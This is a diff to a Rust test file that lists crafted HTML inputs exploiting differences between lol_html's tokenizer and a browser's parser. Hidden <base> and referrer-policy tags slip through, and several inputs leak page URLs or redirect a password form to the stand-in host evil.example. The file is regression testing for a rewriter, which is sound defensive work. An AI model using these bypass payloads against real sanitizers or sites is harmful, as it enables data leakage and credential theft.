@@ -323,20 +323,20 @@ fn the_pages_of_issue_27_leak_under_no_reading() {
         // There lol_html's tokenizer stays in SVG: a CDATA section or an SVG <script>'s
         // comment hides from it the <base> or <meta> a browser reads.
         r#"<form method=post action=/x></form><select><svg></select><![CDATA[<a href=/e>r</a><base href="https://evil.example/">"#,
-        r#"<a href=/n>n</a><div><svg></div><script><!--</script><meta name=referrer content=unsafe-url><img src=https://evil.example/i>"#,
+        "<a href=/n>n</a><div><svg></div><script><!--</script><meta name=referrer content=unsafe-url><img src=https://evil.example/i>",
         // A <base> in <svg> is no base; `<table>` leaves the <svg>, and the next one is.
         r#"<svg><base href=/a/><table><base href="https://evil.example/"></svg><a href=/next>n</a>"#,
         // Nested foreign content, then a tag that takes the tree builder out of all of it and
         // lol_html out of one level (`<div>`, `</p>`): a <script> or <style> is text to the
         // browser and SVG to lol_html, whose comment or attribute hides the markup after the
         // browser's </script>.
-        r#"<svg><svg><div><script><!--</script><img src=https://evil.example/i><meta name=referrer content=unsafe-url>"#,
-        r#"<svg><svg></p><script><!--</script><img src=https://evil.example/i><meta name=referrer content=unsafe-url>"#,
+        "<svg><svg><div><script><!--</script><img src=https://evil.example/i><meta name=referrer content=unsafe-url>",
+        "<svg><svg></p><script><!--</script><img src=https://evil.example/i><meta name=referrer content=unsafe-url>",
         r#"<svg><svg></p><style><x title="</style><meta name=referrer content=unsafe-url><base href=//evil.example/>"></style><a href=next>n</a><img src=https://evil.example/i>"#,
         r#"<svg><svg></p><style></x title="</style><meta name=referrer content=unsafe-url>"></style><img src=https://evil.example/i>"#,
-        r#"<select><svg><script><!--</script></select><meta name=referrer content=unsafe-url><img src=https://evil.example/i>"#,
-        r#"<svg><math><font color=red><style><!--</style><base href=//evil.example/>--></style><a href=next>n</a>"#,
-        r#"<svg><svg></p><style><!--</style><base href=//evil.example/>--></style></svg><form method=post action=next><input name=pw></form>"#,
+        "<select><svg><script><!--</script></select><meta name=referrer content=unsafe-url><img src=https://evil.example/i>",
+        "<svg><math><font color=red><style><!--</style><base href=//evil.example/>--></style><a href=next>n</a>",
+        "<svg><svg></p><style><!--</style><base href=//evil.example/>--></style></svg><form method=post action=next><input name=pw></form>",
         // References a browser decodes: `&copy` is ©.
         r#"<a href="/p?x=1&copy">c</a><a href="https&#x3A;//evil.example/">e</a>"#,
     ];
